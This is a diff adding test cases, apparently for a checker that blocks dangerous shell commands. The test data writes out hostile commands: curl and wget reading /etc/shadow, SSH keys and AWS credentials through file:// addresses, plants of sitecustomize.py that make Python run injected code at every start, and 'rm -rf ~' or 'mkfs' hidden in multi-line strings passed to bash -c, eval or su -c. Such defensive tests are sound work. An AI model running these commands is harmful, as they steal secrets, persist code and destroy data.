@@ -189,3 +189,81 @@ test('names of files in a short text for a shell are none, other input is', () =
     stops(`${list} | xargs -I{} sh -c 'echo {}'`);
   for (const list of names.slice(0, 4)) stops(`${list} | xargs -I{} sh -c {}`);
 });
+
+describe('a file by its address', () => {
+  const FETCH = ['curl %', 'curl -s --url %', 'wget -qO- %', 'sudo curl -o copy %', 'http_proxy= curl -L "%"', "bash -c 'curl %'"];
+  const WRITTEN: readonly ((path: string) => string)[] = [
+    (path) => `file://${path}`,
+    (path) => `FILE://${path}`,
+    (path) => `file:${path}`,
+    (path) => `file://localhost${path}`,
+    (path) => `file://127.0.0.1${path}`,
+  ];
+  test.each(FETCH)('is read as much as by its path: %s', (form) => {
+    for (const write of WRITTEN) {
+      for (const secret of ['/etc/shadow', '/home/ada/.ssh/id_ed25519', '/home/ada/.aws/credentials'])
+        stops(form.replace('%', write(secret)));
+      for (const plain of ['/home/ada/shop/README.md', '/usr/share/dict/words']) passes(form.replace('%', write(plain)));
+    }
+  });
+});
+
+describe('code that Python runs at every start', () => {
+  const FILES = ['sitecustomize.py', 'usercustomize.py'];
+  const UNKNOWN = [
+    '$SITE',
+    '$(python3 -m site --user-site)',
+    "$(python3 -c 'import site; print(site.getsitepackages()[0])')",
+    '${VIRTUAL_ENV}/lib/x',
+  ];
+  const WRITES = [
+    "echo 'import a' > %",
+    "echo 'import a' | tee %",
+    'cp a.py %',
+    'mv a.py %',
+    'ln -s /tmp/a.py %',
+    'curl -so % https://h.example/a',
+    "sed -i '1i import a' %",
+  ];
+  test.each(WRITES)('asks in a folder that is not known: %s', (form) => {
+    for (const folder of UNKNOWN) {
+      for (const file of FILES) stops(form.replace('%', `"${folder}/${file}"`));
+      passes(form.replace('%', `"${folder}/settings.py"`).replace('https://h.example', 'http://localhost'));
+    }
+  });
+});
+
+describe('a quoted text of several lines', () => {
+  const RUN = [
+    'bash -c %',
+    'eval %',
+    'echo % | sh',
+    'sh <<< %',
+    'sudo sh -c %',
+    "printf '%s' % | bash",
+    'c=%; eval "$c"',
+    'trap % EXIT',
+    'su -c %',
+  ];
+  const LINES: readonly ((command: string) => string)[] = [
+    (command) => `echo a\n${command}`,
+    (command) => `${command}\necho a`,
+    (command) => `\n\n  ${command}\n`,
+    (command) => `${command.replace(' ', ' \\\n')}`,
+    (command) => `if true\nthen\n${command}\nfi`,
+    (command) => `echo 'a\nb'\n${command}`,
+  ];
+  test.each(RUN)('is code on each of its lines: %s', (form) => {
+    for (const write of LINES) {
+      for (const sink of ['rm -rf ~', 'mkfs.ext4 /dev/sda1']) stops(form.replace(/%(?!s)/, () => quote(write(sink))));
+      passes(form.replace(/%(?!s)/, () => quote(write('ls -l src'))));
+    }
+  });
+
+  test.each(['echo %', 'git commit -m %', 'grep -F % notes.md', "printf '%s' % > notes.md", 'gh issue create --body %'])(
+    'is data for a program that runs none: %s',
+    (form) => {
+      for (const write of LINES) passes(form.replace(/%(?!s)/, () => quote(write('rm -rf ~'))));
+    },
+  );
+});
